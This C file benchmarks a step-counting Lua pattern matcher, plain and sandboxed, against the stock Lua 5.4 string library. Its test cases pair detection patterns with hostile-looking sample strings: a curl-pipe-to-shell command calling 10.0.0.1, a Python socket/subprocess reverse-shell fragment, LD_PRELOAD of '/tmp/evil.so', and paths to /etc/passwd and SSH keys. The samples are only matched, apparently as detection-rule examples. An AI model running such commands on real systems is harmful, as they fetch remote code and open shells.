/*
 * bench_patterns: ns per call of typical rule patterns, our step-counting
 * matcher (lua/strpat.h) against the stock Lua 5.4 string library.
 *
 *   bench_patterns [ROUNDS]
 *
 * Each figure is the median over the rounds of thread CPU ns per call of a
 * Lua loop `for i = 1, N do f(s, p) end`:
 *
 *   stock    string.find/match of a plain lua_State (lstrlib)
 *   ours     our functions in a plain lua_State (no budget)
 *   sandbox  our functions in a sandbox VM with an instruction budget: the
 *            steps are charged, and the count hook traps every instruction
 *            of the loop too (the no-op row shows what the loop and call
 *            cost there without any matching)
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <lauxlib.h>
#include <lualib.h>

#include "lua/sandbox.h"
#include "lua/strpat.h"

#define N 20000

struct pcase {
	const char *fn, *subject, *pattern;
};

static const struct pcase cases[] = {
    {"find", "/etc/passwd", "^/etc/"},
    {"find", "/home/user/.ssh/authorized_keys", "%.ssh/"},
    {"match", "LD_PRELOAD=/tmp/evil.so", "^(%w+)=(.*)$"},
    {"find", "bash -c curl -s http://10.0.0.1/x.sh | sh", "curl.-|%s*b?a?sh"},
    {"find", "/usr/lib/x86_64-linux-gnu/libc.so.6", "%.so[%.%d]*$"},
    {"match", "/proc/1234/mem", "^/proc/(%d+)/mem$"},
    {"gsub", "/var/lib/docker/overlay2/abc/merged/etc", "/+"},
    {"find", "python3 -c import socket,subprocess,os", "socket.*subprocess"},
};

static const char loop_src[] = "local f, s, p, r = ...\n"
			       "return function(n) for i = 1, n do f(s, p, r) end end\n";

static double cpu_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_THREAD_CPUTIME_ID, &ts);
	return (double)ts.tv_sec * 1e9 + (double)ts.tv_nsec;
}

static int cmp_double(const void *a, const void *b)
{
	double x = *(const double *)a, y = *(const double *)b;

	return (x > y) - (x < y);
}

/* Pushes the loop function for f (on top) and the case. Stack: [-1, +1] */
static void make_loop(lua_State *L, const struct pcase *c)
{
	if (luaL_loadstring(L, loop_src) != LUA_OK) {
		fprintf(stderr, "%s\n", lua_tostring(L, -1));
		exit(1);
	}
	lua_insert(L, -2);
	lua_pushstring(L, c->subject);
	lua_pushstring(L, c->pattern);
	if (c->fn && strcmp(c->fn, "gsub") == 0)
		lua_pushstring(L, "/");
	else
		lua_pushnil(L);
	lua_call(L, 4, 1);
}

/* Median ns per call of the loop on top of a plain state. Stack: [-1, +0] */
static double time_plain(lua_State *L, int rounds)
{
	double t[64];

	for (int r = 0; r < rounds; r++) {
		double t0;

		lua_pushvalue(L, -1);
		lua_pushinteger(L, N);
		t0 = cpu_ns();
		lua_call(L, 1, 0);
		t[r] = (cpu_ns() - t0) / N;
	}
	lua_pop(L, 1);
	qsort(t, (size_t)rounds, sizeof(t[0]), cmp_double);
	return t[rounds / 2];
}

static double time_sandbox(struct tp_lua_vm *vm, int rounds)
{
	lua_State *L = tp_lua_vm_state(vm);
	char err[512];
	double t[64];

	for (int r = 0; r < rounds; r++) {
		double t0;

		lua_pushvalue(L, -1);
		lua_pushinteger(L, N);
		t0 = cpu_ns();
		if (tp_lua_pcall(vm, 1, 0, err, sizeof(err)) != TP_LUA_OK) {
			fprintf(stderr, "sandbox: %s\n", err);
			exit(1);
		}
		t[r] = (cpu_ns() - t0) / N;
	}
	lua_pop(L, 1);
	qsort(t, (size_t)rounds, sizeof(t[0]), cmp_double);
	return t[rounds / 2];
}

/* Build the loop in the sandbox: fn looked up in its string table. */
static int sandbox_loop_p(lua_State *L)
{
	const struct pcase *c = lua_touserdata(L, 1);

	lua_settop(L, 0);
	if (c->fn) {
		lua_pushliteral(L, "");
		lua_getfield(L, -1, c->fn); /* through the string metatable */
		lua_remove(L, -2);
	} else {
		lua_getglobal(L, "rawequal");
	}
	make_loop(L, c);
	lua_setfield(L, LUA_REGISTRYINDEX, "bench_loop");
	return 0;
}

int main(int argc, char **argv)
{
	int rounds = argc > 1 ? atoi(argv[1]) : 9;
	struct tp_lua_limits lim = {.mem_max = 64u << 20, .instr_budget = 1000000000};
	struct tp_lua_vm *vm;
	lua_State *stock = luaL_newstate(), *ours = luaL_newstate();
	char err[512];

	if (rounds < 1 || rounds > 64)
		rounds = 9;
	luaL_openlibs(stock);
	luaL_openlibs(ours);
	lua_getglobal(ours, "string");
	tp_lua_set_pattern_functions(ours, -1, NULL);
	lua_pop(ours, 1);
	if (tp_lua_vm_new(&vm, &lim, err, sizeof(err)) < 0) {
		fprintf(stderr, "%s\n", err);
		return 1;
	}
	printf("%-8s %-42s %-22s %8s %8s %8s\n", "fn", "subject", "pattern", "stock", "ours",
	       "sandbox");
	for (size_t i = 0; i <= sizeof(cases) / sizeof(cases[0]); i++) {
		static const struct pcase noop = {NULL, "x", "y"};
		const struct pcase *c = i < sizeof(cases) / sizeof(cases[0]) ? &cases[i] : &noop;
		const char *fn = c->fn ? c->fn : "rawequal";
		double a, b, s;

		lua_getglobal(stock, c->fn ? "string" : "_G");
		lua_getfield(stock, -1, fn);
		lua_remove(stock, -2);
		make_loop(stock, c);
		a = time_plain(stock, rounds);
		lua_getglobal(ours, c->fn ? "string" : "_G");
		lua_getfield(ours, -1, fn);
		lua_remove(ours, -2);
		make_loop(ours, c);
		b = time_plain(ours, rounds);
		if (tp_lua_cpcall(vm, sandbox_loop_p, (void *)c, err, sizeof(err)) != TP_LUA_OK) {
			fprintf(stderr, "%s\n", err);
			return 1;
		}
		lua_getfield(tp_lua_vm_state(vm), LUA_REGISTRYINDEX, "bench_loop");
		s = time_sandbox(vm, rounds);
		printf("%-8s %-42s %-22s %8.1f %8.1f %8.1f\n", c->fn ? fn : "(no-op)", c->subject,
		       c->pattern, a, b, s);
	}
	lua_close(stock);
	lua_close(ours);
	tp_lua_vm_close(vm);
	return 0;
}
